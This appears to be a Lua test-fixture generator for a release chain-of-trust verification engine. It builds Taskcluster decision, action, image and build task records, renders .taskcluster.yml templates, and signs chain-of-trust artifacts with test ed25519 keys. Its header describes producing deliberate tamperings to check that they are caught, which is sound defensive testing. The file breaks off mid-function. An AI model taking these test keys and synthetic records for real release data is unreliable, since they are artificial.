-- Generator of valid chains of trust of any shape, and of single
-- tamperings of them, for the chain-of-trust engine's tests, the demo and
-- the benchmark (cot/VERIFY.md).
--
--   local cot_chain = require("cot_chain")
--   local chain = cot_chain.build({ product = "firefox", root_type = "beetmover",
--     parent = "action", shape = { signing = true, generic_build = true } })
--   chain:tamper("artifact_bytes_changed")     -- optional, one per chain
--   chain:load(fx)                              -- into the local Queue
--   local overrides = chain:config(fx)          -- config for the engine
--
-- A chain is a model (task records with their Queue definitions, artifacts
-- and chain-of-trust environment) that is "sealed" into bytes: the
-- decision and action task-graph.json, actions.json and parameters.yml,
-- and for every task but the root its public/chain-of-trust.json (canonical
-- JSON, as a worker writes it) and .sig (ed25519, with the test key of its
-- worker implementation). Decision, cron and action tasks are rendered with
-- sw.jsone from this file's own .taskcluster.yml, with the json-e context
-- docs/cot-v2.md describes; the inputs that context comes from (the
-- template, pushlog, projects.yml, GitHub commit) are served as mirror
-- files (chain.mirror: path relative to the mirror root -> bytes).
--
-- Tamperings change the model (then the chain is sealed again, so every
-- signature and hash stays right up to the check the tampering aims at) or
-- the sealed bytes. Each names the VERIFY.md catalogue entry (#N) it
-- produces and the check that must catch it: M.TAMPERINGS.
local fs = require("sw.fs")
local hash = require("sw.hash")
local json = require("sw.json")
local jsone = require("sw.jsone")
local mime = require("sw.mime")
local sched = require("sw.sched")
local sign = require("sw.sign")
local slugid = require("sw.slugid")
local yaml = require("sw.yaml")
local support = require("support")

local M = {}

local null, O, A = json.null, json.object, json.array
local format = string.format

M.KEY_DIR = support.shared .. "/conformance/scriptworker/ed25519"
M.IMPLS = { "docker-worker", "generic-worker", "scriptworker" }
M.COT_NAME = "public/chain-of-trust.json"
M.SIG_NAME = "public/chain-of-trust.json.sig"
M.IMAGE_PATH = "public/image.tar.zst"
M.ARTIFACT_PATH_REGEX = [[^/api/queue/v1/task/(?P<taskId>[^/]+)(/runs/\d+)?/artifacts/(?P<filepath>.*)$]]

local DAY_MS = 86400 * 1000
local YEAR_MS = 365 * DAY_MS

-- Products -------------------------------------------------------------------

-- What the generator needs of each product; pools, repositories and scopes
-- are values of conformance/scriptworker/default-config.json for it.
M.PRODUCTS = {
  firefox = {
    kind = "hg",
    prefix = "GECKO",
    trust = "gecko",
    repo = "https://hg.mozilla.org/mozilla-central",
    project = "mozilla-central",
    restricted_repo = "https://hg.mozilla.org/releases/mozilla-beta",
    restricted_project = "mozilla-beta",
    scope_base = "project:releng",
    restricted_scopes = {
      signing = "project:releng:signing:cert:release-signing",
      beetmover = "project:releng:beetmover:bucket:release",
      balrog = "project:releng:balrog:server:beta",
      bouncer = "project:releng:bouncer:server:production",
      shipit = "project:releng:ship-it:production",
      pushapk = "project:releng:googleplay:product:fenix",
      default = "project:releng:signing:cert:release-signing",
    },
    -- restricted scopes whose trees leave out mozilla-central / mozilla-beta
    wrong_tree_scopes = { "project:releng:balrog:server:release", "project:releng:balrog:server:esr" },
  },
  mobile = {
    kind = "github",
    prefix = "MOBILE",
    trust = "mobile",
    repo = "https://github.com/mozilla-mobile/reference-browser",
    owner = "mozilla-mobile",
    name = "reference-browser",
    scope_base = "project:mobile:reference-browser:releng",
    restricted_scopes = {
      pushapk = "project:mobile:reference-browser:releng:googleplay:product:reference-browser",
      default = "project:mobile:reference-browser:releng:signing:cert:release-signing",
    },
    wrong_tree_scopes = { "project:mobile:releng:treescript:action:push" },
  },
  ["app-services"] = {
    kind = "github",
    prefix = "APPSERVICES",
    trust = "app-services",
    repo = "https://github.com/mozilla/application-services",
    owner = "mozilla",
    name = "application-services",
    scope_base = "project:mozilla:app-services:releng",
    restricted_scopes = {
      beetmover = "project:mozilla:app-services:releng:beetmover:bucket:maven-production",
      default = "project:mozilla:app-services:releng:signing:cert:release-signing",
    },
    wrong_tree_scopes = {},
  },
}

-- Small helpers ----------------------------------------------------------------

local function copy(v)
  if type(v) ~= "table" then
    return v
  end
  local c = {}
  for k, x in pairs(v) do
    c[k] = copy(x)
  end
  return setmetatable(c, getmetatable(v))
end
M.copy = copy

local function iso(ms)
  return os.date("!%Y-%m-%dT%H:%M:%S", ms // 1000) .. format(".%03dZ", ms % 1000)
end
M.iso = iso

local function hex_bytes(n)
  return sign.hex(sign.random_bytes(n))
end

local function sha256(bytes)
  return hash.string(bytes, "sha256")
end

local function encode(v, opts)
  return assert(json.encode(v, opts))
end

local function canonical(v)
  return encode(v, { canonical = true })
end

local key_cache = {}

-- The base64 text of a test key file (private: the seed; public: the key).
local function key_text(impl, which)
  local k = impl .. "_" .. which
  if not key_cache[k] then
    local text = support.read(M.KEY_DIR .. "/" .. impl .. "_" .. which .. "_key")
    key_cache[k] = (text:gsub("%s", ""))
  end
  return key_cache[k]
end

local signers = {}

local function signer(impl)
  if not signers[impl] then
    signers[impl] = assert(sign.signer(assert(sign.b64decode(key_text(impl, "private")))))
  end
  return signers[impl]
end

-- public_key(impl) -> raw 32 bytes of that implementation's test key.
function M.public_key(impl)
  return assert(sign.b64decode(key_text(impl, "public")))
end

-- ed25519_public_keys for the engine's config: the test key of each impl.
function M.public_keys()
  local out = {}
  for _, impl in ipairs(M.IMPLS) do
    out[impl] = A({ key_text(impl, "public") })
  end
  return out
end

-- The .taskcluster.yml templates ---------------------------------------------

-- hg products: hg-push and cron decision tasks, and in-tree action hooks.
-- @NAME@ placeholders are filled per chain (see template_text).
local HG_TEMPLATE = [[
# .taskcluster.yml of the chains generated by tests/cot_chain.lua: the
# decision task of a push or cron job, and the task of an action hook.
version: 1
reporting: checks-v1
tasks:
  - $let:
      decisionTaskId: {$if: 'tasks_for == "action"', then: '${action.taskGroupId}', else: '${ownTaskId}'}
      ownerEmail:
        $switch:
          'tasks_for == "hg-push"': '${push.owner}'
          'tasks_for == "cron"': 'cron@noreply.mozilla.org'
          $default: 'action@noreply.mozilla.org'
      taskName:
        $switch:
          'tasks_for == "hg-push"': 'Gecko Decision Task'
          'tasks_for == "cron"': 'Decision Task for cron job ${cron.job_name}'
          $default: 'Action: ${action.title}'
      treeherderSymbol:
        $switch:
          'tasks_for == "hg-push"': 'D'
          'tasks_for == "cron"': '${cron.job_symbol}'
          $default: '${action.symbol}'
    in:
      $if: 'tasks_for in ["hg-push", "cron", "action"]'
      then:
        taskId: {$if: 'tasks_for != "action"', then: '${ownTaskId}'}
        taskGroupId: '${decisionTaskId}'
        schedulerId: '@TRUST@-level-${repository.level}'
        created: {$fromNow: ''}
        deadline: {$fromNow: '1 day'}
        expires: {$fromNow: '1 year'}
        provisionerId: '@TRUST@-${repository.level}'
        workerType: '@DECISION_WORKER_TYPE@'
        priority: lowest
        retries: 5
        requires: all-completed
        routes:
          $flatten:
            - 'tc-treeherder.v2.${repository.project}.${push.revision}'
            - $if: 'tasks_for == "hg-push"'
              then: ['index.@TRUST@.v2.${repository.project}.latest.taskgraph.decision']
              else: []
        scopes:
          $switch:
            'tasks_for == "hg-push"': ['assume:repo:${repository.url[8:]}:branch:default']
            'tasks_for == "cron"': ['assume:repo:${repository.url[8:]}:cron:${cron.job_name}']
            $default: ['${action.repo_scope}']
        payload:
          env:
            $merge:
              - @P@_BASE_REPOSITORY: 'https://hg.mozilla.org/mozilla-unified'
                @P@_HEAD_REPOSITORY: '${repository.url}'
                @P@_HEAD_REF: '${push.revision}'
                @P@_HEAD_REV: '${push.revision}'
                HG_STORE_PATH: /builds/worker/checkouts/hg-store
                TASKCLUSTER_CACHES: /builds/worker/checkouts
              - $if: 'tasks_for == "hg-push"'
                then: {GECKO_COMMIT_MSG: '${push.comment}'}
              - $if: 'tasks_for == "action"'
                then:
                  ACTION_TASK_GROUP_ID: '${action.taskGroupId}'
                  ACTION_TASK_ID: {$json: {$eval: 'taskId'}}
                  ACTION_INPUT: {$json: {$eval: 'input'}}
                  ACTION_CALLBACK: '${action.cb_name}'
          cache:
            '@TRUST@-level-${repository.level}-checkouts-sparse-v3': /builds/worker/checkouts
          features:
            taskclusterProxy: true
            chainOfTrust: true
          image: '@DECISION_IMAGE@'
          maxRunTime: 1800
          command:
            - /builds/worker/bin/run-task
            - '--gecko-checkout=/builds/worker/checkouts/gecko'
            - '--'
            - bash
            - -cx
            - $switch:
                'tasks_for == "action"': >-
                  cd /builds/worker/checkouts/gecko &&
                  ./mach --log-no-times taskgraph action-callback
                'tasks_for == "cron"': >-
                  cd /builds/worker/checkouts/gecko &&
                  ./mach --log-no-times taskgraph cron --job-name='${cron.job_name}'
                  --head-rev='${push.revision}' --level='${repository.level}'
                $default: >-
                  cd /builds/worker/checkouts/gecko &&
                  ./mach --log-no-times taskgraph decision --pushlog-id='${push.pushlog_id}'
                  --pushdate='${push.pushdate}' --project='${repository.project}'
                  --owner='${push.owner}' --level='${repository.level}'
                  --base-repository="$GECKO_BASE_REPOSITORY" --head-repository="$GECKO_HEAD_REPOSITORY"
                  --head-ref="$GECKO_HEAD_REF" --head-rev="$GECKO_HEAD_REV"
          artifacts:
            public:
              type: directory
              path: /builds/worker/artifacts
              expires: {$fromNow: '1 year'}
        metadata:
          name: '${taskName}'
          description: 'The task that creates all of the other tasks in the task graph'
          owner: '${ownerEmail}'
          source: '${repository.url}/raw-file/${push.revision}/.taskcluster.yml'
        tags:
          kind: decision-task
          createdForUser: '${ownerEmail}'
        extra:
          $merge:
            - treeherder:
                machine: {platform: gecko-decision}
                symbol: '${treeherderSymbol}'
              tasks_for: '${tasks_for}'
            - $if: 'tasks_for == "cron"'
              then: {cron: {$json: {$eval: 'cron'}}}
            - $if: 'tasks_for == "action"'
              then:
                parent: '${action.taskGroupId}'
                action:
                  name: '${action.name}'
                  context:
                    taskGroupId: '${taskGroupId}'
                    taskId: {$eval: 'taskId'}
                    input: {$eval: 'input'}
]]

-- GitHub products: github-push and cron decision tasks, and action hooks.
local GITHUB_TEMPLATE = [[
# .taskcluster.yml of the chains generated by tests/cot_chain.lua: the
# decision task of a push or cron job, and the task of an action hook.
version: 1
reporting: checks-v1
tasks:
  - $let:
      decisionTaskId: {$if: 'tasks_for == "action"', then: '${action.taskGroupId}', else: '${ownTaskId}'}
      repoUrl: {$if: 'tasks_for == "github-push"', then: '${event.repository.html_url}', else: '${repository.url}'}
      headRev: {$if: 'tasks_for == "github-push"', then: '${event.after}', else: '${push.revision}'}
      headBranch: {$if: 'tasks_for == "github-push"', then: '${event.ref}', else: '${push.branch}'}
      level: {$if: 'tasks_for == "github-push"', then: '3', else: '${repository.level}'}
      ownerEmail:
        $switch:
          'tasks_for == "github-push"': '${event.pusher.email}'
          'tasks_for == "cron"': 'cron@noreply.mozilla.org'
          $default: 'action@noreply.mozilla.org'
      taskName:
        $switch:
          'tasks_for == "github-push"': 'Decision Task'
          'tasks_for == "cron"': 'Decision Task for cron job ${cron.job_name}'
          $default: 'Action: ${action.title}'
    in:
      $if: 'tasks_for in ["github-push", "cron", "action"]'
      then:
        taskId: {$if: 'tasks_for != "action"', then: '${ownTaskId}'}
        taskGroupId: '${decisionTaskId}'
        schedulerId: '@TRUST@-level-${level}'
        created: {$fromNow: ''}
        deadline: {$fromNow: '1 day'}
        expires: {$fromNow: '1 year'}
        provisionerId: '@TRUST@-${level}'
        workerType: '@DECISION_WORKER_TYPE@'
        priority: lowest
        retries: 5
        requires: all-completed
        routes: ['checks', 'index.@TRUST@.v2.@REPO_NAME@.revision.${headRev}.taskgraph.decision']
        scopes:
          $switch:
            'tasks_for == "github-push"': ['assume:repo:${repoUrl[8:]}:branch:${headBranch}']
            'tasks_for == "cron"': ['assume:repo:${repoUrl[8:]}:cron:${cron.job_name}']
            $default: ['${action.repo_scope}']
        payload:
          env:
            $merge:
              - @P@_HEAD_REPOSITORY: '${repoUrl}'
                @P@_HEAD_REV: '${headRev}'
                @P@_HEAD_BRANCH: '${headBranch}'
                @P@_REPOSITORY_TYPE: git
                REPOSITORIES: {$json: {@REPO_KEY@: '@REPO_NAME@'}}
              - $if: 'tasks_for == "github-push"'
                then:
                  @P@_BASE_REPOSITORY: '${event.repository.html_url}'
                  @P@_BASE_REV: '${event.before}'
                  @P@_BASE_BRANCH: '${event.base_ref}'
                  @P@_PUSH_DATE_TIME: '${event.repository.pushed_at}'
              - $if: 'tasks_for == "cron"'
                then:
                  @P@_PUSH_DATE_TIME: '${event.release.published_at}'
                  @P@_TRIGGERED_BY: '${event.sender.login}'
              - $if: 'tasks_for == "action"'
                then:
                  ACTION_TASK_GROUP_ID: '${action.taskGroupId}'
                  ACTION_TASK_ID: {$json: {$eval: 'taskId'}}
                  ACTION_INPUT: {$json: {$eval: 'input'}}
                  ACTION_CALLBACK: '${action.cb_name}'
          features:
            taskclusterProxy: true
            chainOfTrust: true
          image: '@DECISION_IMAGE@'
          maxRunTime: 1800
          command:
            - /usr/local/bin/run-task
            - '--@REPO_KEY@-checkout=/builds/worker/checkouts/src'
            - '--'
            - bash
            - -cx
            - $switch:
                'tasks_for == "action"': 'cd /builds/worker/checkouts/src && taskgraph action-callback'
                'tasks_for == "cron"': >-
                  cd /builds/worker/checkouts/src &&
                  taskgraph cron --job-name='${cron.job_name}' --head-rev='${headRev}'
                $default: >-
                  cd /builds/worker/checkouts/src &&
                  taskgraph decision --pushlog-id='0' --pushdate='0' --project='@REPO_NAME@'
                  --owner='${ownerEmail}' --level='${level}' --head-ref='${headBranch}'
                  --head-rev='${headRev}' --tasks-for='${tasks_for}'
          artifacts:
            public:
              type: directory
              path: /builds/worker/artifacts
              expires: {$fromNow: '1 year'}
        metadata:
          name: '${taskName}'
          description: 'The task that creates all of the other tasks in the task graph'
          owner: '${ownerEmail}'
          source: '${repoUrl}/raw/${headRev}/.taskcluster.yml'
        tags:
          kind: decision-task
          createdForUser: '${ownerEmail}'
        extra:
          $merge:
            - tasks_for: '${tasks_for}'
              treeherder: {machine: {platform: gecko-decision}, symbol: D}
            - $if: 'tasks_for == "cron"'
              then: {cron: {$json: {$eval: 'cron'}}}
            - $if: 'tasks_for == "action"'
              then:
                parent: '${action.taskGroupId}'
                action:
                  name: '${action.name}'
                  context:
                    taskGroupId: '${taskGroupId}'
                    taskId: {$eval: 'taskId'}
                    input: {$eval: 'input'}
]]

-- The template text of a chain (its product and decision pool).
local function template_text(chain)
  local p = chain.product
  local vars = {
    TRUST = p.trust,
    P = p.prefix,
    DECISION_WORKER_TYPE = chain.decision_worker_type,
    DECISION_IMAGE = chain.decision_image,
    REPO_KEY = p.name and p.name:gsub("-", "_") or "gecko",
    REPO_NAME = p.name or "gecko",
  }
  local text = (p.kind == "hg" and HG_TEMPLATE or GITHUB_TEMPLATE):gsub("@([%u_]+)@", function(k)
    return assert(vars[k], k)
  end)
  return text
end

-- Contexts (docs/cot-v2.md, "The context per tasks_for") -------------------

local function as_slugid(decision_id, own_id)
  return function(name)
    return name == "decision" and decision_id or own_id
  end
end

local function base_context(tasks_for, created, own_id, decision_id)
  return O({
    now = created,
    as_slugid = as_slugid(decision_id, own_id),
    tasks_for = tasks_for,
    ownTaskId = own_id,
    taskId = null,
  })
end

-- The $let the hooks service wraps .taskcluster.yml in for an action.
local function wrap_action(tmpl, perm, tasks_for)
  local function ev(e)
    return O({ ["$eval"] = e })
  end
  return O({
    ["$let"] = O({
      tasks_for = tasks_for,
      action = O({
        name = "${payload.decision.action.name}",
        title = "${payload.decision.action.title}",
        description = "${payload.decision.action.description}",
        taskGroupId = "${payload.decision.action.taskGroupId}",
        symbol = "${payload.decision.action.symbol}",
        repo_scope = "assume:repo:${payload.decision.repository.url[8:]}:" .. tasks_for .. ":" .. perm,
        action_perm = perm,
        cb_name = "${payload.decision.action.cb_name}",
      }),
      push = ev("payload.decision.push"),
      repository = ev("payload.decision.repository"),
      input = ev("payload.user.input"),
      parameters = ev("payload.decision['parameters']"),
      taskId = ev("payload.user.taskId"),
      taskGroupId = ev("payload.user.taskGroupId"),
      ownTaskId = ev("taskId"),
    }),
    ["in"] = tmpl,
  })
end

-- Task definitions -------------------------------------------------------------

-- Every key the Queue returns for a task (its createTask defaults filled
-- in), so that the definition a worker embeds in its chain-of-trust.json
-- is exactly the Queue's.
local function queue_definition(def)
  local d = copy(def)
  d.taskId = nil
  if d.taskQueueId == nil then
    d.taskQueueId = d.provisionerId .. "/" .. d.workerType
  elseif d.provisionerId == nil then
    d.provisionerId, d.workerType = d.taskQueueId:match("^([^/]+)/(.+)$")
  end
  local defaults = {
    schedulerId = "-", projectId = "none", dependencies = A({}), requires = "all-completed",
    routes = A({}), priority = "lowest", retries = 5, scopes = A({}), tags = O({}), extra = O({}),
  }
  for k, v in pairs(defaults) do
    if d[k] == nil then
      d[k] = v
    end
  end
  return O(d)
end

-- json-e rendering of the first task of the template for context ctx.
local function render_task(tmpl, ctx, what)
  local doc, err = jsone.render(tmpl, ctx)
  if doc == nil then
    error("cot_chain: rendering the " .. what .. ": " .. tostring(err), 0)
  end
  local t = assert(doc.tasks and doc.tasks[1], "cot_chain: the template renders no task for " .. what)
  return queue_definition(copy(t))
end

-- Building -----------------------------------------------------------------------

local Chain = {}
Chain.__index = Chain

local function add_task(chain, rec)
  assert(not chain.by_key[rec.key], "cot_chain: duplicate task key " .. rec.key)
  rec.id = rec.id or slugid.nice()
  rec.artifacts = rec.artifacts or {}
  rec.rel = rec.rel or {}
  chain.tasks[#chain.tasks + 1] = rec
  chain.by_key[rec.key] = rec
  return rec
end

local function add_artifact(rec, name, bytes)
  rec.artifacts[#rec.artifacts + 1] = { name = name, bytes = bytes }
end

local function log_text(rec)
  return format("[taskcluster 1970-01-01T00:00:00.000Z] Task ID: %s\n[taskcluster] Worker Type: %s\n"
    .. "%s: done\n", rec.id, rec.def and rec.def.workerType or "?", rec.key)
end

local function worker_identity(rec)
  if rec.impl == "scriptworker" then
    rec.worker_group = rec.def.workerType
    rec.worker_id = rec.def.workerType .. "-" .. (sign.random_bytes(1):byte() % 9 + 1)
  elseif rec.impl == "generic-worker" then
    rec.worker_group = "us-west-2"
    rec.worker_id = "i-" .. hex_bytes(8):sub(1, 17)
  else
    rec.worker_group = "us-east1"
    rec.worker_id = "i-" .. hex_bytes(8):sub(1, 17)
  end
end

-- The repository facts of a task of the chain: env and metadata.source.
local function repo_env(chain, rev)
  local p = chain.product.prefix
  return { [p .. "_HEAD_REPOSITORY"] = chain.repo, [p .. "_HEAD_REV"] = rev or chain.rev }
end

local function source_of(chain, path, rev)
  if chain.product.kind == "hg" then
    return format("%s/file/%s/%s", chain.repo, rev or chain.rev, path)
  end
  return format("%s/blob/%s/%s", chain.repo, rev or chain.rev, path)
end

local function metadata(chain, name, path, rev)
  return O({
    name = name,
    description = name .. " (generated by tests/cot_chain.lua)",
    owner = "release+tests@mozilla.com",
    source = source_of(chain, path, rev),
  })
end

-- A plain task definition of the chain's task group `group`.
local function task_def(chain, t)
  t.schedulerId = t.schedulerId or (chain.product.trust .. "-level-3")
  t.created = iso(t.created_ms)
  t.deadline = iso(t.created_ms + DAY_MS)
  t.expires = iso(t.created_ms + YEAR_MS)
  t.created_ms = nil
  return queue_definition(t)
end

-- Push data of one revision: the hg pushlog or the GitHub commit, served
-- from the mirror.
local function add_push(chain, rev, base_rev, push_id, pushdate)
  local p = chain.product
  if p.kind == "hg" then
    local path = chain.repo:gsub("^https://hg.mozilla.org", "")
    local pushlog = O({
      lastpushid = math.tointeger(push_id),
      pushes = O({
        [push_id] = O({
          changesets = A({ O({
            author = "Release Engineering <release@mozilla.com>",
            branch = "default",
            desc = "Bug 1000000 - a generated change r=releng",
            files = A({ "taskcluster/kinds/build/kind.yml" }),
            node = rev,
            parents = A({ base_rev }),
            tags = A({}),
          }) }),
          date = pushdate,
          user = "ffxbld@mozilla.com",
        }),
      }),
    })
    chain.mirror[format("/hg%s/json-pushes?changeset=%s&version=2&full=1", path, rev)] =
      encode(pushlog, { indent = 2, sort_keys = true })
  else
    local commit = O({
      sha = rev,
      commit = O({
        author = O({ name = "Release Engineering", email = "release@mozilla.com" }),
        committer = O({ name = "GitHub", email = "noreply@github.com" }),
        message = "Bug 1000000 - a generated change",
      }),
      author = O({ login = "releng-bot" }),
      committer = O({ login = "web-flow" }),
    })
    chain.mirror[format("/github_api/repos/%s/%s/commits/%s", p.owner, p.name, rev)] = encode(commit)
    -- is_pull_request's "has this revision landed" lookup (VERIFY.md 8):
    -- GitHub answers a non-empty page for a landed revision.
    chain.mirror[format("/github/%s/%s/branch_commits/%s", p.owner, p.name, rev)] =
      "<ul><li>main</li></ul>\n"
  end
end

local function template_path(chain, rev)
  local p = chain.product
  if p.kind == "hg" then
    return format("/hg%s/raw-file/%s/.taskcluster.yml", chain.repo:gsub("^https://hg.mozilla.org", ""), rev)
  end
  return format("/github_raw/%s/%s/%s/.taskcluster.yml", p.owner, p.name, rev)
end

local function serve_template(chain, rev)
  chain.mirror[template_path(chain, rev)] = chain.template_text
end

-- The json-e context of a push or cron decision task (docs/cot-v2.md).
local function decision_context(chain, d)
  local p = chain.product
  local ctx = base_context(d.tasks_for, iso(d.created_ms), d.id, d.id)
  if p.kind == "hg" then
    ctx.repository = O({ url = chain.repo, level = "3", project = chain.project, type = "hg" })
    ctx.push = O({
      base_revision = d.base_rev,
      revision = d.rev,
      comment = d.tasks_for == "cron" and "" or " ",
      owner = d.tasks_for == "cron" and "cron" or "ffxbld@mozilla.com",
      pushlog_id = d.push_id,
      pushdate = d.pushdate,
    })
    if d.tasks_for == "cron" then
      ctx.cron = d.cron
    end
  elseif d.tasks_for == "github-push" then
    ctx.event = O({
      before = d.base_rev,
      after = d.rev,
      pusher = O({ email = "release@mozilla.com" }),
      base_ref = "refs/heads/main",
      ref = "refs/heads/main",
      repository = O({
        full_name = p.owner .. "/" .. p.name,
        ssh_url = format("git@github.com:%s/%s.git", p.owner, p.name),
        html_url = chain.repo,
        name = p.name,
        pushed_at = d.push_date_time,
      }),
      -- the commit's committer is web-flow, so its author's login
      sender = O({ login = "releng-bot" }),
    })
  else
    ctx.cron = d.cron
    ctx.event = O({
      repository = O({
        clone_url = chain.repo,
        full_name = p.owner .. "/" .. p.name,
        html_url = chain.repo,
        name = p.name,
      }),
      release = O({ tag_name = d.rev, target_commitish = "refs/heads/main", published_at = d.push_date_time }),
      sender = O({ login = "TaskclusterHook" }),
    })
    ctx.repository = O({ url = chain.repo, project = p.name, level = "3", type = "git" })
    ctx.push = O({ revision = d.rev, branch = "refs/heads/main" })
  end
  return ctx
end

-- A decision task (push or cron) at a new revision, with everything the
-- engine's json-e rebuild fetches.
local function add_decision(chain, key, tasks_for, created_ms)
  local d = add_task(chain, { key = key, type = "decision", impl = "docker-worker", is_parent = true })
  d.created_ms = created_ms
  d.tasks_for = tasks_for
  d.rev = hex_bytes(20)
  d.base_rev = hex_bytes(20)
  chain.push_counter = chain.push_counter + 1
  d.push_id = tostring(40000 + chain.push_counter)
  d.pushdate = created_ms // 1000 - 30
  d.push_date_time = iso(created_ms - 30000)
  if tasks_for == "cron" then
    d.cron = O({
      job_name = "nightly-desktop",
      job_symbol = "Nd",
      quoted_args = "--include-push-tasks --target-tasks-method nightly_desktop",
      task_id = d.id,
      job_type = "decision-task",
    })
  end
  add_push(chain, d.rev, d.base_rev, d.push_id, d.pushdate)
  serve_template(chain, d.rev)
  d.render = function()
    return render_task(chain.template, decision_context(chain, d), key)
  end
  d.def = d.render()
  return d
end

local function parameters_text(chain, d)
  return table.concat({
    "base_repository: " .. chain.repo,
    "head_repository: " .. chain.repo,
    "head_rev: " .. d.rev,
    "head_ref: " .. d.rev,
    "level: '3'",
    "project: " .. chain.project,
    "pushlog_id: '" .. d.push_id .. "'",
    "pushdate: " .. d.pushdate,
    "owner: ffxbld@mozilla.com",
    "tasks_for: " .. d.tasks_for,
    "target_tasks_method: default",
    "optimize_target_tasks: true",
    "",
  }, "\n")
end

-- public/actions.json of decision d: one hook action, release promotion.
local function actions_doc(chain, d)
  local push = chain.product.kind == "hg"
      and O({ owner = "ffxbld@mozilla.com", pushlog_id = d.push_id, revision = d.rev })
      or O({ owner = "release@mozilla.com", revision = d.rev, branch = "refs/heads/main" })
  return O({
    version = 1,
    variables = O({}),
    actions = A({
      O({
        kind = "hook",
        name = "release-promotion",
        title = "Release Promotion",
        description = "Promote a release.",
        hookGroupId = "project-releng",
        hookId = "in-tree-action-3-release-promotion/" .. hex_bytes(5),
        extra = O({ actionPerm = "release-promotion" }),
        context = A({}),
        schema = O({ type = "object", properties = O({}) }),
        hookPayload = O({
          decision = O({
            action = O({
              cb_name = "release-promotion",
              name = "release-promotion",
              title = "Release Promotion",
              description = "Promote a release.",
              taskGroupId = d.id,
              symbol = "${input.release_promotion_flavor}",
            }),
            push = push,
            repository = O({ url = chain.repo, project = chain.project, level = "3" }),
            parameters = O({ ["$eval"] = "parameters" }),
          }),
          user = O({
            input = O({ ["$eval"] = "input" }),
            taskGroupId = O({ ["$eval"] = "taskGroupId" }),
            taskId = O({ ["$eval"] = "taskId" }),
          }),
        }),
      }),
    }),
  })
end

-- The text of decision d's public/actions.json (made once).
function M.actions_text(chain, d)
  if not d.actions_text then
    d.actions_text = encode(actions_doc(chain, d), { indent = 2, sort_keys = true })
  end
  return d.actions_text
end

-- The action task of decision d, rendered as the hooks service does.
local function add_action(chain, d, created_ms)
  local a = add_task(chain, { key = "action", type = "action", impl = "docker-worker", is_parent = true })
  a.created_ms = created_ms
  a.input = O({ release_promotion_flavor = "promote", build_number = 1, version = "140.0" })
  a.render = function()
    local actions = assert(json.decode(M.actions_text(chain, d)))
    local defn = actions.actions[1]
    local parameters = assert(yaml.load(chain.parameters_text))
    local payload = assert(jsone.render(defn.hookPayload, O({
      input = a.input, parameters = parameters, taskGroupId = d.id, taskId = null,
    })))
    local tasks_for = "action"
    local ctx = O({
      payload = payload,
      taskId = a.id,
      now = iso(a.created_ms),
      as_slugid = as_slugid(d.id, a.id),
      clientId = null,
    })
    return render_task(wrap_action(chain.template, defn.extra.actionPerm, tasks_for), ctx, "action")
  end
  a.def = a.render()
  return a
end

local function docker_image_task(chain, key, d, created_ms, rev)
  local p = chain.product
  local di = add_task(chain, { key = key, type = "docker-image", impl = "docker-worker", group = d,
    kind = "docker-image", label = "docker-image-build" })
  di.image_bytes = sign.random_bytes(3000)
  di.def = task_def(chain, {
    created_ms = created_ms,
    taskGroupId = d.id,
    provisionerId = p.trust .. "-3",
    workerType = "images",
    dependencies = A({ d.id }),
    routes = A({ format("index.%s.cache.level-3.docker-images.v2.build.hash.%s", p.trust, hex_bytes(32)) }),
    scopes = A({ "secrets:get:project/taskcluster/gecko/hgfingerprint" }),
    payload = O({
      image = "mozillareleases/image_builder:5.0.0@sha256:" .. hex_bytes(32),
      env = O({
        HASH = hex_bytes(32),
        IMAGE_NAME = "build",
        DOCKER_IMAGE_ZSTD_LEVEL = "10",
        [p.prefix .. "_HEAD_REPOSITORY"] = chain.repo,
        [p.prefix .. "_HEAD_REV"] = rev or chain.rev,
      }),
      features = O({ chainOfTrust = true, dind = true }),
      maxRunTime = 7200,
      command = A({ "/usr/local/bin/run-task", "--", "/builds/worker/bin/build_image.sh" }),
      artifacts = O({
        ["public/image.tar.zst"] = O({ type = "file", path = "/workspace/out/image.tar.zst",
          expires = iso(created_ms + YEAR_MS) }),
      }),
    }),
    metadata = metadata(chain, "docker-image-build", "taskcluster/docker/build", rev),
    tags = O({ kind = "docker-image", label = "docker-image-build" }),
    extra = O({ treeherder = O({ symbol = "I(build)" }) }),
  })
  di.rel = { { path = { "payload", "artifacts", "public/image.tar.zst", "expires" }, offset = "1 year" } }
  add_artifact(di, M.IMAGE_PATH, di.image_bytes)
  di.environment = O({ imageHash = "sha256:" .. hex_bytes(32) })
  return di
end

-- A build or l10n task on docker-worker using image task `di` (or, for
-- products allowing prebuilt images, a prebuilt one when di is nil).
local function docker_build_task(chain, key, kind, label, d, di, created_ms, out_name)
  local p = chain.product
  local b = add_task(chain, { key = key, type = kind, impl = "docker-worker", group = d, kind = kind,
    label = label })
  local image, inputs, environment
  if di then
    image = O({ type = "task-image", taskId = di.id, path = M.IMAGE_PATH })
    inputs = O({ ["docker-image"] = di.id })
    environment = O({ imageArtifactHash = "sha256:" .. sha256(di.image_bytes) })
  else
    image = "mozillareleases/build:1.0@sha256:" .. hex_bytes(32)
    environment = O({ imageHash = "sha256:" .. hex_bytes(32) })
  end
  local extra = O({ treeherder = O({ symbol = kind == "build" and "B" or "L10n" }) })
  if inputs then
    extra.chainOfTrust = O({ inputs = inputs })
  end
  local env = O(repo_env(chain))
  env.MOZ_BUILD_DATE = "20260101000000"
  env.MOZ_SCM_LEVEL = "3"
  b.def = task_def(chain, {
    created_ms = created_ms,
    taskGroupId = d.id,
    provisionerId = p.trust .. "-3",
    workerType = "b-linux",
    dependencies = A({ di and di.id or d.id }),
    routes = A({ format("index.%s.v2.%s.latest.%s", p.trust, chain.project, label) }),
    scopes = A({ "docker-worker:cache:" .. p.trust .. "-level-3-checkouts-v3" }),
    payload = O({
      image = image,
      env = env,
      features = O({ chainOfTrust = true, taskclusterProxy = true }),
      cache = O({ [p.trust .. "-level-3-checkouts-v3"] = "/builds/worker/checkouts" }),
      maxRunTime = 7200,
      command = A({ "/builds/worker/bin/run-task", "--", "/builds/worker/bin/build.sh" }),
      artifacts = O({
        ["public/build"] = O({ type = "directory", path = "/builds/worker/artifacts",
          expires = iso(created_ms + YEAR_MS) }),
      }),
    }),
    metadata = metadata(chain, label, "taskcluster/kinds/" .. kind),
    tags = O({ kind = kind, label = label }),
    extra = extra,
  })
  b.rel = { { path = { "payload", "artifacts", "public/build", "expires" }, offset = "1 year" } }
  b.environment = environment
  b.out = out_name
  add_artifact(b, out_name, sign.random_bytes(4096))
  return b
end

local function generic_build_task(chain, d, created_ms)
  local p = chain.product
  local g = add_task(chain, { key = "generic-build", type = "build", impl = "generic-worker", group = d,
